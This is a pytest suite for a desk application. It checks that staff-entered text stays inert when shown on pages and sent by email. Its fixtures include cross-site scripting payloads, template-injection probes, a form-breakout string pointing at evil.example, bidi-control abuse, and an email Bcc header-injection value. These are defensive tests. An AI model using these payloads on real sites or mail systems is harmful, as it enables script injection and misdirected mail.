"""The house takes words at the desk as on the person's side: one rule, nothing lost, all inert."""

import re
import uuid

import pytest

from havre.consents.access import of_contact
from havre.contacts.access import learned_of, notes_of, said_in
from havre.contacts.models import Message
from havre.desk.tests.hand import Desk, desk_of
from havre.lib import wire
from tests.hands import Story, begin
from tests.people import House

pytestmark = pytest.mark.usefixtures("on_desk")
HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>",
    "javascript:alert(1) {{7*7}} ${7*7} {% debug %} [a](javascript:alert(1)) <style>*{}</style>",
    "</textarea></bdi></title><form action=//evil.example><input name=key>",
    "\u202eright to left\u202c\u200b q" + "\u0301\u0300" * 1_500,
)
TOO_LONG = "Too long: 4001 of at most 4000"


@pytest.fixture
def story(house: House) -> Story:
    return begin(house)


@pytest.fixture
def ana(house: House, story: Story) -> Desk:
    return desk_of(house, "ana")


def fields(story: Story, text: str) -> dict[str, dict[str, str]]:
    """Every field of words at the desk, by the verb that takes it."""
    yes = {"act": "next_steps", "purpose": "share_service", "days": "7", "manner": "typed"}
    return {
        "answer": {"text": text},
        "note": {"text": text},
        "wish": {"wish": text},
        "person": {"called": text, "pronouns": text, "reach": text},
        "consents": yes | {"limits": text},
        "options": {"words": text},
    }


def post(desk: Desk, story: Story, verb: str, posted: dict[str, str]) -> int:
    address = f"/talk/{story.contact_id}/{verb}/"
    return desk.post(address, posted | {"key": str(uuid.uuid4())}).status_code


def written(story: Story) -> list[str]:
    """All that staff wrote, as it is opened again."""
    learned = learned_of(story.person, by=story.ana)
    said = [one.text for one in said_in(story.contact, by=story.ana) if one.sender == "staff"]
    notes = [one.text for one in notes_of(story.contact, by=story.ana)]
    limits = [words for _, words in of_contact(story.contact, by=story.ana)]
    facts = [learned.wish, learned.called, learned.pronouns, learned.reach]
    return [*said[-1:], *notes, *facts, *limits]


@pytest.mark.hostile(2)
@pytest.mark.parametrize("sign", ["a", "é", "\U0001f54a", "e\u0301", "\r\n"])
def test_the_longest_text_is_kept_whole_in_every_field(story, ana, sign):
    text = "x" + sign * 3_998 + "x"
    kept = text.replace("\r\n", "\n").replace("e\u0301", "é")
    for verb, posted in fields(story, text).items():
        assert post(ana, story, verb, posted) in {200, 302}
    assert [one == kept for one in written(story)] == [True] * 7


@pytest.mark.hostile(2)
@pytest.mark.parametrize("over", [4_001, 20_000])
def test_a_longer_one_is_refused_with_a_sentence_and_nothing_is_cut(story, ana, over):
    before = written(story)
    for verb, posted in fields(story, "\U0001f54a" * over).items():
        assert post(ana, story, verb, posted) == (200 if verb == "options" else 422)
    assert written(story) == before


@pytest.mark.hostile(4)
def test_what_is_no_character_is_replaced_and_refuses_nothing(story, ana):
    for verb, posted in fields(story, " a\0b\x1bc\ufeff\n").items():
        assert post(ana, story, verb, posted) in {200, 302}
    assert written(story) == ["a\ufffdb\ufffdc\ufeff"] * 7


def test_spaces_alone_are_nothing_to_send(story, ana):
    before = Message.objects.count()
    assert [post(ana, story, verb, {"text": " \n\t "}) for verb in ("answer", "note")] == [422] * 2
    assert (Message.objects.count(), notes_of(story.contact, by=story.ana)) == (before, [])


@pytest.mark.hostile(7)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_stay_words_on_the_page(story, ana, house, text):
    before = shape(ana, story)
    for verb, posted in fields(story, text).items():
        assert post(ana, story, verb, posted) in {200, 302}
    page = ana.get(f"/talk/{story.contact_id}/").content.decode()
    assert written(story) == [text] * 7
    assert ("alert(1)</script" in page, "<svg onload" in page, "//evil.example>" in page) == (
        False,
        False,
        False,
    )
    grown = {tag: n - before.get(tag, 0) for tag, n in shape(ana, story).items()}
    assert {tag for tag, n in grown.items() if n} <= {"li", "p", "bdi", "span", "time", "div",
        "blockquote", "dt", "dd", "strong", "form", "input", "button", "svg", "path"}  # fmt: skip
    assert "49" not in re.findall(r"<bdi>(.*?)</bdi>", page)


def shape(desk: Desk, story: Story) -> dict[str, int]:
    """How many of each tag stand on the page."""
    found: dict[str, int] = {}
    page = desk.get(f"/talk/{story.contact_id}/").content.decode()
    for tag in re.findall(r"<([a-z0-9]+)", page):
        found[tag] = found.get(tag, 0) + 1
    return found


@pytest.mark.hostile(7)
@pytest.mark.hostile(79)
@pytest.mark.parametrize("text", [*HOSTILE, "a\nBcc: all@evil.example\n\n.\r\nDATA"])
def test_a_letter_carries_hostile_words_as_words(
    story, ana, text, django_capture_on_commit_callbacks
):
    post(ana, story, "wish", {"wish": text})
    story.says_yes("wish")
    with django_capture_on_commit_callbacks(execute=True):
        ana.post(f"/referrals/{story.referral.id}/disclosure/", {"share": "wish"})
    (letter,) = wire.SENT_IN_MEMORY
    assert re.fullmatch(r"Un message pour votre équipe \([A-Z0-9]{8}\)", letter.subject)
    message = wire._message(letter)
    assert (message.get_all("To"), message.get_all("Bcc"), message.is_multipart()) == (
        ["in@linden.example"],
        None,
        False,
    )
    assert message.get_content_type() == "text/plain"
    marks = dict.fromkeys([*range(0x202A, 0x202F), *range(0x2066, 0x206A)])
    said = text.replace("\r\n", "\n").translate(marks).replace("\n", "\n    ")
    assert said in message.get_content().replace("\r\n", "\n")
    outbox = desk_of(story.house, "ana").get("/outbox/").content.decode()
    assert ("<script>alert" in outbox, "<img src=x" in outbox) == (False, False)


@pytest.mark.hostile(13)
@pytest.mark.parametrize("since", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "x",
    "2026-99-99", "٢٠٢٦-01-01T00:00:00+00:00", "2026-01-01T00:00:00+99:99", "\0"])  # fmt: skip
def test_a_moment_that_is_none_is_no_moment(story, ana, since):
    answer = ana.get(f"/talk/{story.contact_id}/messages/", {"since": since})
    assert (answer.status_code, answer.content.count(b"<li")) == (200, 2)


@pytest.mark.hostile(13)
@pytest.mark.parametrize("before", ["-1", "x", "9" * 30, "9" * 5_000, "1e9", "\0"])
def test_a_row_that_is_none_is_no_row(house, before):
    assert desk_of(house, "sue").get("/audit/", {"before": before}).status_code == 200
